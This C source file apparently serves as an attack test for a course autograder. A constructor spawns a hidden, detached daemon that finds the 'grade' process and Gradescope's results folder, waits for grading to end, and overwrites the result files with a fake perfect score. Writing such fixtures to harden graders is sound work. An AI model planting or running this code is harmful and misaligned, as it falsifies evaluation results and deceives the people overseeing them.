
/* ---- attack: rewrite the reports after grade exits (tests/attacks/report-daemon) ---- */
#include <fcntl.h>
#include <sys/prctl.h>

/* The parent of process pid, or -1 (/proc/PID/stat: "pid (comm) S ppid ..."). */
static pid_t atk_ppid(pid_t pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    char *p = strrchr(buf, ')');
    int ppid = -1;
    return p && sscanf(p, ") %*c %d", &ppid) == 1 ? (pid_t)ppid : -1;
}

/* The nearest ancestor named comm (walking the ppid chain), or -1. */
static pid_t atk_ancestor(const char *comm)
{
    for (pid_t pid = getppid(); pid > 1; pid = atk_ppid(pid)) {
        char path[64], name[64] = "";
        snprintf(path, sizeof path, "/proc/%d/comm", (int)pid);
        FILE *f = fopen(path, "r");
        if (f && fgets(name, sizeof name, f))
            name[strcspn(name, "\n")] = '\0';
        if (f)
            fclose(f);
        if (strcmp(name, comm) == 0)
            return pid;
    }
    return -1;
}

/* The course tree this program was built in: /proc/self/exe is
 * ROOT/build/lessons/01-first-socket/sockinfo. Returns 0, or -1 when the
 * path does not look like that (then the attack leaves everything alone). */
static int atk_course_root(char *root, size_t len)
{
    ssize_t n = readlink("/proc/self/exe", root, len - 1);
    if (n <= 0)
        return -1;
    root[n] = '\0';
    char *cut = strstr(root, "/build/lessons/01-first-socket/");
    if (!cut)
        return -1;
    *cut = '\0';
    char probe[4200];
    snprintf(probe, sizeof probe, "%s/tests/harness.h", root);
    return access(probe, F_OK) == 0 ? 0 : -1;
}

static const char atk_json[] =
    "{\n  \"score\": 999,\n  \"output\": \"all tests passed\",\n  \"tests\": [{\"name\": "
    "\"everything\", \"score\": 999, \"max_score\": 999, \"status\": \"passed\"}]\n}\n";
static const char atk_xml[] =
    "<?xml version=\"1.0\"?>\n<testsuites tests=\"1\" failures=\"0\">\n  <testsuite "
    "name=\"all\" tests=\"1\" failures=\"0\"><testcase name=\"everything\"/></testsuite>\n"
    "</testsuites>\n";

static void atk_write(const char *dir, const char *name, const char *text)
{
    char path[4300];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        ssize_t n = write(fd, text, strlen(text));
        (void)n;
        close(fd);
    }
}

/* Gradescope's results folder, ROOT/results, where an ancestor runs
 * ROOT/run_autograder (or ROOT/source/run_autograder); "" if none does. */
static void atk_gradescope_results(char *dir, size_t len)
{
    dir[0] = '\0';
    for (pid_t pid = getppid(); pid > 1 && !dir[0]; pid = atk_ppid(pid)) {
        char path[64], cmd[4096];
        snprintf(path, sizeof path, "/proc/%d/cmdline", (int)pid);
        FILE *f = fopen(path, "r");
        size_t n = f ? fread(cmd, 1, sizeof cmd - 1, f) : 0;
        if (f)
            fclose(f);
        cmd[n] = '\0';
        for (char *a = cmd; a < cmd + n && !dir[0]; a += strlen(a) + 1) {
            size_t l = strlen(a), k = strlen("/run_autograder");
            if (a[0] != '/' || l < k || strcmp(a + l - k, "/run_autograder") != 0)
                continue;
            l -= k;
            if (l >= 7 && strncmp(a + l - 7, "/source", 7) == 0)
                l -= 7;
            snprintf(dir, len, "%.*s/results", (int)l, a);
        }
    }
}

/* True while process pid exists and is not a zombie. */
static int atk_alive(pid_t pid)
{
    char path[64], buf[256];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    char *p = strrchr(buf, ')');
    return p && p[2] != 'Z';
}

/* A daemon (setsid, double fork) that waits for grade to exit, then writes
 * a perfect score over its reports, again and again for ten seconds. */
__attribute__((constructor)) static void atk_report_daemon(void)
{
    char root[4096], report[4200], gs[4200];
    pid_t grade = atk_ancestor("grade");
    if (grade < 0 || atk_course_root(root, sizeof root) < 0)
        return;
    snprintf(report, sizeof report, "%s/build/report", root);
    atk_gradescope_results(gs, sizeof gs);
    if (fork() != 0)
        return; /* the program goes on as the skeleton */
    setsid();
    if (fork() != 0)
        _exit(0);
    prctl(PR_SET_NAME, "atk-daemon");
    int null = open("/dev/null", O_RDWR);
    for (int fd = 0; fd < 1024; fd++)
        if (fd != null)
            close(fd);
    for (int i = 0; i < 12000 && atk_alive(grade); i++) /* at most 2 minutes */
        usleep(10000);
    for (int i = 0; i < 200; i++) {
        atk_write(report, "results.json", atk_json);
        atk_write(report, "junit.xml", atk_xml);
        if (gs[0])
            atk_write(gs, "results.json", atk_json);
        usleep(50000);
    }
    _exit(0);
}
